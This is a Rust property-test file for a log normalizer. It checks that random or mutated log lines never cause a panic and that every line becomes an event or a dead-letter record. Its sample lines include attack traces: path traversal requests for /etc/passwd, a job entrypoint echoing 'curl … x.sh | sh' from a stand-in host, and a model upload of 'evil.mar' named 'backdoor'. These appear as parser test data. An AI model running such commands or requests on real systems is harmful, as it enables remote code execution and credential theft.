//! Property tests: random bytes and mutated real lines never panic, and
//! every line ends as an event or a dead-letter record (or is a blank line
//! outside any record), whatever the format.

use std::sync::LazyLock;

use bytes::Bytes;
use normalizer::{Normalizer, Options, Output, Registry};
use proptest::prelude::*;
use schema::{RawRecord, Source, Timestamp};

static NORM: LazyLock<Normalizer> =
    LazyLock::new(|| Normalizer::new(Registry::builtin(), Options::default()));

/// Real lines from the samples, one or two per format.
const REAL: &[&str] = &[
    r#"2026/11/30 00:30:56 INFO:     127.0.0.1:54658 - "GET /get-artifact?path=../../../../etc/passwd&run_uuid=2bcd46739e31467c860907ededcfd79f HTTP/1.1" 400 Bad Request"#,
    r#"127.0.0.1 - admin [30/Nov/2026:00:34:12 +0000] "GET /api/2.0/mlflow/experiments/search?max_results=1 HTTP/1.1" 401 137 "-" "python-requests/2.32.3""#,
    "2026/11/30 00:32:28 INFO mlflow.server.auth: Created admin user 'admin'.",
    "[W 2026-11-30 00:36:42.774 ServerApp] 404 GET /api/contents/../../etc/passwd (1bb84709c39c4f71a291bf62ef0713b9@127.0.0.1) 1.60ms referer=None",
    "2026-11-30 00:39:46,605\tINFO web_log.py:229 -- 127.0.0.1 [30/Nov/2026:00:39:46 +0000] 'POST /api/jobs/ HTTP/1.1' 200 228 bytes 18059 us '-' 'python-requests/2.28.1'",
    "[2026-11-30 00:39:16,576 I 302 302] (raylet) main.cc:283: Setting cluster ID to: ca76c9296a6eb8b441a863b342b152a07fbd4520eb34e4f42e9956ac",
    "Running entrypoint for job shadowray-curl-sh: echo 'curl -s http://203.0.113.7/x.sh | sh'",
    r#"{"event_id": "c7f7", "source_type": "JOBS", "source_hostname": "vm", "source_pid": 326, "message": "Started a ray job train-resnet-0001.", "timestamp": "1795999170", "custom_fields": {"submission_id": "train-resnet-0001"}, "severity": "INFO", "label": ""}"#,
    r#"2026-11-30T00:43:13,439 - /127.0.0.1:59344 "POST /models?url=http%3A%2F%2F203.0.113.7%2Fevil.mar&initial_workers=1&model_name=backdoor HTTP/1.1" 400 44"#,
    "2026-11-30T00:43:11,013 [INFO ] W-9000-fraud-scorer_1.0-stdout MODEL_LOG - model_name: fraud-scorer, batchSize: 1",
    "2026-11-30T00:43:11,081 - PredictionTime.ms:0.05|#ModelName:fraud-scorer,Level:Model|#hostname:vm,requestID:86d5,timestamp:1795999391",
    "127.0.0.1 - - [30/Nov/2026 00:41:06] \"PUT /ml-models/fraud/v3/model.pkl HTTP/1.1\" 200 -",
    r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"a","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/x/secrets","verb":"list","user":{"username":"u"},"sourceIPs":["10.0.0.1"],"objectRef":{"resource":"secrets","namespace":"x","apiVersion":"v1"},"responseStatus":{"code":200},"requestReceivedTimestamp":"2026-11-30T10:20:00.123456Z","stageTimestamp":"2026-11-30T10:20:00Z"}"#,
    r#"{"eventVersion":"1.10","userIdentity":{"type":"IAMUser","userName":"bob"},"eventTime":"2026-11-30T10:30:00Z","eventSource":"s3.amazonaws.com","eventName":"GetObject","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.23","requestParameters":{"bucketName":"ml-models","key":"m.pkl"},"additionalEventData":{"bytesTransferredOut":48213},"eventID":"e"}"#,
    r#"<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 [exampleSDID@32473 iut="3"] An application event"#,
    "Nov 30 00:41:06 ml-head-0 sshd[4242]: Accepted publickey for ray from 10.0.3.7 port 50000",
];

fn format_names() -> Vec<String> {
    let mut names: Vec<String> = NORM
        .registry()
        .formats()
        .iter()
        .map(|f| f.name.clone())
        .collect();
    names.push(String::new()); // auto-detection
    names
}

/// Runs lines through a stream and checks the accounting; returns the outputs.
fn check(format: &str, lines: &[Vec<u8>]) -> Result<Vec<Output>, TestCaseError> {
    let source = std::sync::Arc::new(Source {
        kind: "file",
        name: "prop.log".into(),
        format: (!format.is_empty()).then(|| format.to_string()),
    });
    let mut stream = NORM.stream(source.clone(), Some(Timestamp(1_795_999_999_000_000_000)));
    let mut out = Vec::new();
    let mut offset = 0u64;
    for (i, l) in lines.iter().enumerate() {
        stream.push(
            RawRecord {
                bytes: Bytes::copy_from_slice(l),
                source: source.clone(),
                offset,
                line: i as u64 + 1,
                received: Timestamp(1_795_999_999_000_000_000),
                overflow_len: None,
            },
            &mut out,
        );
        offset += l.len() as u64 + 1;
    }
    stream.finish(&mut out);
    // Every line is in exactly one output's original, or blank.
    let mut covered = 0u64;
    let mut offsets = std::collections::BTreeSet::new();
    for o in &out {
        match o {
            Output::Event(e) => {
                let original = e.original().expect("every event keeps its original");
                let off = e
                    .get("log.offset")
                    .and_then(|v| v.as_i64())
                    .expect("log.offset") as u64;
                if offsets.insert(off) {
                    covered += original.matches('\n').count() as u64 + 1;
                }
                prop_assert!(e.timestamp().is_some(), "every event has @timestamp");
                prop_assert!(e.dataset().is_some(), "every event has event.dataset");
            }
            Output::Dead(d) => {
                prop_assert!(!d.reason.is_empty());
                prop_assert!(offsets.insert(d.offset));
                covered += d.lines;
            }
        }
    }
    prop_assert_eq!(
        covered + stream.blank_lines(),
        lines.len() as u64,
        "lines lost or duplicated: {:?}",
        out
    );
    Ok(out)
}

fn mutate(line: &str, ops: &[(usize, u8, u8)]) -> Vec<u8> {
    let mut b = line.as_bytes().to_vec();
    for &(pos, kind, byte) in ops {
        if b.is_empty() {
            b.push(byte);
            continue;
        }
        let p = pos % (b.len() + 1);
        match kind % 4 {
            0 if p < b.len() => b[p] = byte,
            1 => b.insert(p, byte),
            2 if p < b.len() => {
                b.remove(p);
            }
            _ => b.truncate(p),
        }
    }
    b.retain(|&c| c != b'\n');
    b
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, .. ProptestConfig::default() })]

    #[test]
    fn random_bytes_never_panic(
        lines in proptest::collection::vec(proptest::collection::vec(any::<u8>().prop_filter("no newline", |b| *b != b'\n'), 0..300), 1..20),
        fmt in 0usize..64,
    ) {
        let names = format_names();
        check(&names[fmt % names.len()], &lines)?;
    }

    #[test]
    fn mutated_real_lines_never_panic(
        picks in proptest::collection::vec((0usize..REAL.len(), proptest::collection::vec((any::<usize>(), any::<u8>(), any::<u8>()), 0..6)), 1..12),
        fmt in 0usize..64,
    ) {
        let lines: Vec<Vec<u8>> = picks.iter().map(|(i, ops)| mutate(REAL[*i], ops)).collect();
        let names = format_names();
        check(&names[fmt % names.len()], &lines)?;
    }

    #[test]
    fn real_lines_detected_without_help_become_events(i in 0usize..REAL.len()) {
        let out = check("", &[REAL[i].as_bytes().to_vec()])?;
        prop_assert!(matches!(out.as_slice(), [Output::Event(_)]), "{}: {:?}", REAL[i], out);
    }
}
